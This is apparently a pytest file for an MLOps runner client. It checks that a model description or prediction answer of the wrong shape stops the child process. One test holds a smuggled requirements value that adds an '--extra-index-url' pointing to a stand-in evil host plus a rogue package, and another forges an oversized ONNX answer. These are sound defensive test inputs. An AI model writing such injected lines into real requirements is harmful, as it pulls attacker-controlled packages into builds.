"""What the model runner's child says of a model is held to its shape here (no process: a
stand-in for the child)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from mlops_ci.runner.client import RemoteModel, RunnerError


class Child:
    def __init__(self, answer: dict[str, Any] | None = None) -> None:
        self.closed = False
        self.answer = answer or {}

    def close(self) -> None:
        self.closed = True

    def request(self, op: str, args: dict[str, Any], values: Any = None) -> dict[str, Any]:
        return self.answer

    def expect(self, answer: dict[str, Any], key: str, kind: Any, op: str) -> Any:
        from mlops_ci.runner.client import _Child

        return _Child.expect(self, answer, key, kind, op)  # type: ignore[arg-type]


def remote(info: dict[str, Any], child: Child | None = None) -> RemoteModel:
    return RemoteModel(child or Child(), 1, info, Path("model.joblib"))  # type: ignore[arg-type]


def test_only_known_distributions_reach_the_serving_requirements() -> None:
    said = ["xgboost\n--extra-index-url https://evil.example/simple\nevilpkg", "lightgbm", "x"]
    assert remote({"distributions": said}).distributions == ("lightgbm",)
    assert remote({"distributions": "xgboost"}).distributions == ()


def test_a_description_of_another_shape_stops_the_child() -> None:
    child = Child()
    with pytest.raises(RunnerError, match="shape of its own"):
        remote({"n_features": "many"}, child)
    assert child.closed


def test_an_answer_with_other_rows_than_asked_stops_the_child() -> None:
    import numpy as np
    import pandas as pd

    child = Child({"y": np.zeros(3)})
    model = remote({"kind": "regression"}, child)
    with pytest.raises(RunnerError, match="for 2 rows"):
        model.predict(pd.DataFrame({"a": [1.0, 2.0]}))
    assert child.closed
    child = Child({"y": [0, 1]})
    with pytest.raises(RunnerError, match="a list for 'y'"):
        remote({}, child).predict(pd.DataFrame({"a": [1.0, 2.0]}))


def test_a_forged_onnx_answer_is_refused_not_allocated() -> None:
    child = Child({"onnx": 10**12, "layout": "matrix"})
    with pytest.raises(RunnerError, match="a int for 'onnx'"):
        remote({}, child).to_onnx(None, None)
